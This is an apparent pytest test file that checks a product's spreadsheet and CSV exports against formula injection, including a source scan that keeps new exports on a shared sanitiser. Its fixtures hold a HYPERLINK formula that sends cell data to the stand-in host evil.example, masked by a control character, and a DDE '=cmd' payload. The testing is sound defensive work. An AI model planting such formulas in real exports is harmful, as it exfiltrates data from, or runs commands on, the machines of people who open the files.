"""Every spreadsheet and CSV export, fed hostile text through the product's own services and
read back from the real file: no cell is a live formula, text that starts like one carries the
leading apostrophe, and a control character (U+0017) neither breaks the file nor survives in it.

The rule lives once, in ``shuzhi.exports.cells``; the last tests keep new exports on it.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from shuzhi.assessment.grading import services as gs
from shuzhi.assessment.results import circular
from shuzhi.assessment.results import hooks as results
from shuzhi.assessment.tests import results_testing
from shuzhi.ballots import exports as ballot_exports
from shuzhi.ballots.models import BallotRoundStatus
from shuzhi.ballots.tests.tally_setup import cast, make_setup
from shuzhi.core import clock
from shuzhi.exports.cells import FORMULA_STARTS, csv_writer, safe_cell
from shuzhi.orgs.imports import exporting, tabular
from shuzhi.orgs.tree import services as org_services
from shuzhi.orgs.tree.models import Unit
from shuzhi.rectification import ledger_export, ledger_import
from shuzhi.rectification import services as problem_services
from shuzhi.rectification.models import Problem, ProblemStatus
from shuzhi.rectification.selectors import LedgerFilters

pytestmark = pytest.mark.django_db

# What a secretary planted in the province's ledger, and the control character that broke it.
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"查看详情")'
CONTROL = "\x17"
HOSTILE = CONTROL + FORMULA  # the control character hides the formula from a naive check
TODAY = datetime.date(2025, 11, 20)
SHUZHI = Path(__file__).resolve().parent.parent / "shuzhi"


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def fixed_clock(monkeypatch):
    monkeypatch.setattr(clock, "today", lambda: TODAY)


def rename(world, unit: Unit, name: str) -> Unit:
    """A unit named by the hostile text, through the tree's own service."""
    return org_services.update_unit(actor=world.root, unit=unit, name=name)


def xlsx_cells(data: bytes) -> list:
    """Every non-empty cell of every sheet of a workbook, as openpyxl reads it back."""
    book = load_workbook(io.BytesIO(data))
    return [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def assert_safe_xlsx(data: bytes, planted: int = 1) -> list[str]:
    """No formula and no control character anywhere; the planted text is there as text, with
    its apostrophe. Answers the texts that carried the formula."""
    cells = xlsx_cells(data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert [t for t in texts if re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", t)] == []
    assert [t for t in texts if t.startswith(FORMULA_STARTS)] == []
    carried = [t for t in texts if "HYPERLINK" in t]
    assert len(carried) >= planted
    assert [t for t in carried if t.startswith("=")] == []
    return carried


def assert_safe_csv(data: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    values = [value for row in rows for value in row]
    assert [v for v in values if v.startswith(FORMULA_STARTS)] == []
    assert CONTROL not in "".join(values)
    assert any(v == "'" + FORMULA for v in values)
    return rows


def test_the_guard_itself():
    assert safe_cell(HOSTILE) == "'" + FORMULA
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_cell("整改\x00进展\x1f") == "整改进展"
    # A tab or a line feed inside the text stays.
    assert safe_cell("第一行\n第二行\t备注") == "第一行\n第二行\t备注"
    assert safe_cell(-3) == -3 and safe_cell(None) is None
    assert safe_cell(TODAY) == TODAY
    out = io.StringIO()
    csv_writer(out).writerow(["+86 139", "普通文字", 5])
    assert out.getvalue() == "'+86 139,普通文字,5\r\n"


def test_ledger_export(world, fixed_clock):
    problem = problem_services.create_problem(
        actor=world.dave,
        unit=world.county_a1,
        description="基层组织生活流于形式",
        source="xuncha",
        found_on=datetime.date(2025, 3, 1),
        year=2025,
        measures="-逐一核查" + CONTROL,
        responsible_person_name="@孙责任",
        deadline=datetime.date(2025, 9, 30),
    )
    # Text the service lets through as typed (an import may bring more: see the ledger import).
    Problem.objects.filter(pk=problem.pk).update(description=HOSTILE)
    problem_services.transition(
        actor=world.alice, problem=problem, to_status=ProblemStatus.IN_PROGRESS
    )
    problem_services.add_note(actor=world.alice, problem=problem, on=TODAY, text="+已召开专题会")
    out, count = ledger_export.export_ledger(
        actor=world.alice, filters=LedgerFilters(year=2025, unit=world.county_a1)
    )
    assert count == 1
    data = out.read()
    assert_safe_xlsx(data)
    rows = load_workbook(io.BytesIO(data)).active.iter_rows(min_row=4, values_only=True)
    row = next(iter(rows))
    assert row[2] == "'" + FORMULA  # 问题描述, whole and readable
    assert row[3] == "'-逐一核查"
    assert row[5] == "'@孙责任"


def test_ledger_export_of_a_hostile_unit_name_and_search(world, fixed_clock):
    rename(world, world.county_a1, HOSTILE)
    problem_services.create_problem(
        actor=world.dave,
        unit=world.county_a1,
        description="台账资料不全",
        source="xuncha",
        found_on=datetime.date(2025, 3, 1),
        year=2025,
    )
    problem_services.create_problem(
        actor=world.dave,
        unit=world.township_a1x,
        description="台账资料不全",
        source="xuncha",
        found_on=datetime.date(2025, 3, 1),
        year=2025,
    )
    world.county_a1.refresh_from_db()
    # A search for the control character names it in the sheet's filter line.
    out, count = ledger_export.export_ledger(
        actor=world.alice,
        filters=LedgerFilters(year=2025, unit=world.county_a1, responsible="-" + CONTROL),
    )
    assert count == 0
    assert_safe_xlsx(out.read())
    out, count = ledger_export.export_ledger(
        actor=world.alice, filters=LedgerFilters(year=2025, unit=world.county_a1)
    )
    assert count == 2
    carried = assert_safe_xlsx(out.read(), planted=2)  # the title and the 单位 column
    assert "'" + FORMULA in carried


def test_ledger_import_template(world):
    rename(world, world.county_a1, HOSTILE)
    data = ledger_export.template_workbook(world.dave)
    carried = assert_safe_xlsx(data)
    assert carried == ["'" + FORMULA]


def test_ledger_import_error_report(world):
    header = (
        "序号,组织代码,单位名称,问题来源,问题描述,严重程度,发现日期,整改措施,"
        "责任领导,责任人,责任部门,责任类型,完成时限,整改进展,状态,验收情况\n"
    )
    row = f'1,{world.county_a1.code},,天降,"{HOSTILE.replace(chr(34), chr(34) * 2)}",,,,,,,,,,,\n'
    job = ledger_import.create_import(
        actor=world.dave,
        unit=world.county_a1,
        year=2025,
        file_name="ledger.csv",
        content=(header + row).encode(),
        enqueue=False,
    )
    job = ledger_import.run_import(job.pk)
    assert job.status == "failed"
    carried = assert_safe_xlsx(ledger_import.report_of(job))
    assert "'" + FORMULA in carried


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_unit_export(world, file_format):
    rename(world, world.county_a1, HOSTILE)
    org_services.update_unit(actor=world.root, unit=world.city_a, short_name="-广州")
    data = exporting.export_units(actor=world.alice, unit=world.province, file_format=file_format)
    if file_format == "csv":
        rows = assert_safe_csv(data)
        assert [row[4] for row in rows if row[0] == world.city_a.code] == ["'-广州"]
    else:
        assert_safe_xlsx(data)


def test_import_error_report_csv(world):
    data = tabular.errors_as_csv([tabular.RowError(7, "=cmd|' /C calc'!A0", HOSTILE)])
    rows = assert_safe_csv(data)
    assert rows[1] == ["7", "'=cmd|' /C calc'!A0", "'" + FORMULA]


def test_ballot_workbook(world):
    rename(world, world.city_a, HOSTILE)
    setup = make_setup(world)
    a, b, c = (r.pk for r in setup.reporters)
    for _ in range(2):  # the minimum behind any figure shown
        cast(setup.ballot_round, "leaders", {a: "good", b: "good", c: "average"})
    setup.ballot_round.status = BallotRoundStatus.CLOSED
    setup.ballot_round.save()
    carried = assert_safe_xlsx(ballot_exports.workbook(setup.ballot_round), planted=4)
    assert set(carried) == {"'" + FORMULA}


def test_grades_export(world):
    rename(world, world.city_b, HOSTILE)
    made = results_testing.build(world)
    results.on_grades_confirmed(actor=world.alice, grading=made.grading, rows=made.rows.values())
    row = made.rows[world.county_a1.code]
    gs.correct_grade(
        actor=world.alice, row=row, final=row.final, reason="复核更正", opinion=HOSTILE
    )
    carried = assert_safe_xlsx(circular.grades_xlsx(made.round), planted=2)
    assert "'" + FORMULA in carried


def _sources() -> list[tuple[Path, str]]:
    return [
        (path, path.read_text(encoding="utf-8"))
        for path in sorted(SHUZHI.rglob("*.py"))
        if "tests" not in path.parts and "migrations" not in path.parts
    ]


def test_no_csv_is_written_past_the_guard():
    """A CSV file is written with ``cells.csv_writer``, never with ``csv.writer`` itself."""
    raw = [
        str(path.relative_to(SHUZHI))
        for path, text in _sources()
        if re.search(r"csv\.(writer|DictWriter)\(", text)
        and path.relative_to(SHUZHI).as_posix() != "exports/cells.py"
    ]
    assert raw == []


def _unguarded_workbook_writers(sources: list[tuple[str, str]]) -> list[str]:
    """Modules that start a workbook (``new_workbook`` or openpyxl's ``Workbook``) without
    taking their cell writing from ``shuzhi.exports.cells``."""
    return [
        name
        for name, text in sources
        if re.search(r"\b(new_workbook|Workbook)\(", text)
        and "shuzhi.exports.cells import" not in text
    ]


def test_every_workbook_writer_uses_the_guard():
    """A module that builds a workbook takes its cell writing from ``shuzhi.exports.cells``."""
    sources = [(str(path.relative_to(SHUZHI)), text) for path, text in _sources()]
    assert _unguarded_workbook_writers(sources) == []


def test_the_workbook_scan_sees_a_writer_past_the_guard():
    writer = "book, sheet = new_workbook('x')\nsheet.append(['=1'])\n"
    guarded = "from shuzhi.exports.cells import append_row\n" + writer
    assert _unguarded_workbook_writers([("a.py", writer), ("b.py", guarded)]) == ["a.py"]


def test_workbooks_and_documents_are_started_in_the_exports_app():
    """Only ``shuzhi.exports`` creates an openpyxl workbook or a python-docx document: the
    apps call :func:`shuzhi.exports.sheets.new_workbook` and
    :func:`shuzhi.exports.official_docx.official_document`, so the layout and the guard are
    written once."""
    elsewhere = [
        str(path.relative_to(SHUZHI))
        for path, text in _sources()
        if re.search(r"(?<![\w.])(Workbook|Document)\(", text)
        and path.relative_to(SHUZHI).parts[0] != "exports"
    ]
    assert elsewhere == []


def _unprinted_workbooks(sources: list[tuple[str, str]]) -> list[str]:
    """Modules that start a workbook with ``new_workbook`` but never give it the shared
    print setup."""
    return [
        name
        for name, text in sources
        if re.search(r"\bnew_workbook\(", text) and not re.search(r"\bprint_setup\(", text)
    ]


def test_every_workbook_is_set_up_for_printing():
    """Every module that writes a workbook gives its sheets :func:`print_setup` (A4, header
    rows repeated, fitted to the width, page numbers); the tests of each export read it back."""
    sources = [
        (str(path.relative_to(SHUZHI)), text)
        for path, text in _sources()
        if path.relative_to(SHUZHI).parts[0] != "exports"
    ]
    assert _unprinted_workbooks(sources) == []
    unprinted = "book, sheet = new_workbook('x')\n"
    assert _unprinted_workbooks(
        [("a.py", unprinted), ("b.py", unprinted + "print_setup(sheet)")]
    ) == ["a.py"]


def test_every_word_document_starts_on_the_official_page():
    """Only ``exports/official_docx.py`` creates a python-docx document: every Word file the
    product writes gets the GB/T 9704 page and its page numbers."""
    elsewhere = [
        str(path.relative_to(SHUZHI))
        for path, text in _sources()
        if re.search(r"(?<![\w.])Document\(", text)
        and path.relative_to(SHUZHI).as_posix() != "exports/official_docx.py"
    ]
    assert elsewhere == []
